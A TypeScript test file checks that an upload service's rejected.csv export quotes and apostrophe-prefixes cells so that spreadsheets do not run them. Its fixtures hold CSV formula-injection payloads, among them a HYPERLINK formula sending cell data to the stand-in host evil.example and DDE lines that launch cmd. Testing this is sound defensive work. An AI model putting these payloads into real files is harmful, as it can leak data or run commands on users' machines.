import { describe, expect, it } from "vitest";
import { createTestServer, signedInAgent } from "../test-support";
import { createSiteAndCampaign, postUpload, waitForUpload } from "./test-helpers";

const { app } = await createTestServer();
const lead = await signedInAgent(app, "lead");

/** The cells of a CSV text in which every cell is quoted (what spreadsheetSafeCsv writes), row by row. */
function quotedCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /"((?:[^"]|"")*)"(,|\n)/gy;
  let match: RegExpExecArray | null;
  let consumed = 0;
  while ((match = cell.exec(text)) !== null) {
    consumed = cell.lastIndex;
    row.push((match[1] ?? "").replaceAll('""', '"'));
    if (match[2] === "\n") {
      rows.push(row);
      row = [];
    }
  }
  // The whole text was consumed: nothing outside a quoted cell.
  expect(consumed).toBe(text.length);
  return rows;
}

// Rows a spreadsheet would run as formulas or commands if they came back unprefixed (OWASP "CSV Injection").
const HOSTILE_LINES = [
  '=HYPERLINK("http://evil.example/?x="&A1;"open"),0.8,10',
  "=1+1,0.8,10",
  "+1+cmd|' /C calc'!A0,0.8,10",
  "-2+3,0.8,10",
  "@SUM(1+1)*cmd|' /C calc'!A0,0.8,10",
  '"=1+1",0.8,10',
];

describe("rejected.csv with hostile rows", () => {
  it("quotes every cell and prefixes every cell that starts with = + - @ tab or CR, so no spreadsheet runs it", async () => {
    const { campaign } = await createSiteAndCampaign(lead);
    const text = ["time_utc,seeing_arcsec,zenith_deg", "2025-01-01T03:00:00Z,0.81,10", ...HOSTILE_LINES, "2025-01-01T03:05:00Z,0.85,10", ""].join("\n");
    const done = await waitForUpload(lead, (await postUpload(lead, campaign.id, Buffer.from(text), "hostile.csv")).body.upload.id);
    expect(done.samples.accepted).toBe(2);
    expect(done.samples.rejected).toBe(HOSTILE_LINES.length);

    const csv = (await lead.get(`/api/uploads/${done.id}/rejected.csv`)).text;
    const rows = quotedCells(csv);
    expect(rows[0]).toEqual(["line", "reason", "message", "raw_line"]);
    expect(rows).toHaveLength(1 + HOSTILE_LINES.length);
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Each hostile raw line comes back whole, behind one apostrophe (a quoted field's quotes as the parser kept them).
    const rawLines = rows.slice(1).map((row) => row[3] ?? "");
    for (const rawLine of rawLines) expect(rawLine).toMatch(/^'[=+\-@]|^"/);
    expect(rawLines).toContain(`'${HOSTILE_LINES[1]}`);
    expect(rawLines).toContain(`'${HOSTILE_LINES[4]}`);
  });
});

describe("rejected.csv of a file with many rejected rows", () => {
  it("lists every one of them once, in line order, across the batches it is written in", async () => {
    const { campaign } = await createSiteAndCampaign(lead);
    const bad = Array.from({ length: 1234 }, (_, index) => `not-a-time-${index},0.8,10`);
    const file = Buffer.from(["time_utc,seeing_arcsec,zenith_deg", "2025-04-08T03:00:00Z,0.8,10", ...bad, ""].join("\n"));
    const done = await waitForUpload(lead, (await postUpload(lead, campaign.id, file, "many-bad.csv")).body.upload.id);
    expect(done.samples).toMatchObject({ read: 1235, accepted: 1, rejected: 1234 });
    const rows = quotedCells((await lead.get(`/api/uploads/${done.id}/rejected.csv`)).text);
    expect(rows[0]).toEqual(["line", "reason", "message", "raw_line"]);
    // Lines 3 to 1236 of the file (the header is line 1, the good row line 2).
    expect(rows.slice(1).map((row) => Number(row[0]))).toEqual(Array.from({ length: 1234 }, (_, index) => index + 3));
    expect(rows.slice(1).map((row) => row[3])).toEqual(bad);
  });
});
